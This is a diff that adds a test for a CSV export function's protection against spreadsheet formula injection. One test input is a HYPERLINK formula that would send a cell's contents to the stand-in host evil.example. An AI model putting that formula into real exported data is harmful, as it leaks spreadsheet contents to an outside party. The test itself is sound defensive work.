@@ -115,6 +115,16 @@ describe('exportCsv', () => {
     expect(csvField(true)).toBe('true');
   });
 
+  it('neutralises cells a spreadsheet would run as formulas (= + - @, tab, carriage return)', () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?d="&A1,"click")')).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`);
+    expect(csvField('+1+2')).toBe("'+1+2");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('a=b')).toBe('a=b');
+  });
+
   it('writes a BOM, the header and one CRLF-terminated row per message', () => {
     const csv = exportCsv([u1, a1r, a2]);
     expect(csv.startsWith('\uFEFFsender,text,isCreatedByUser,error,unfinished,cancelled,messageId,parentMessageId,createdAt\r\n')).toBe(true);
